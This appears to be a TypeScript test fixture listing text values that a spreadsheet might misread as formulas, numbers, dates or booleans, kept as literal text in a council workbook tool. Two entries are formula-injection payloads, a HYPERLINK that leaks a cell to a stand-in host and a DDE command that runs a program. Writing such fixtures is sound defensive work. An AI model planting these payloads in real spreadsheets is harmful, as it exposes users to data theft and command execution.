/**
 * Text a council's workbook may hold that a spreadsheet would read as something else: formulas
 * (a data-leaking HYPERLINK, a DDE command), operators, numbers, dates, booleans, error literals
 * and an apostrophe of its own. Every host must keep each one as the text it is.
 */
export const FORMULA_LOOKING_TEXT: readonly string[] = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
  "=cmd|' /C calc'!A0",
  "=1+1 (text)",
  "+5 ASYE",
  "-3 agency",
  "@SUM(A1)",
  "1/2",
  "007",
  "TRUE",
  "#N/A",
  "'quoted",
  "2026-01",
  "12%",
  "10:30",
  "Jan 2026",
];
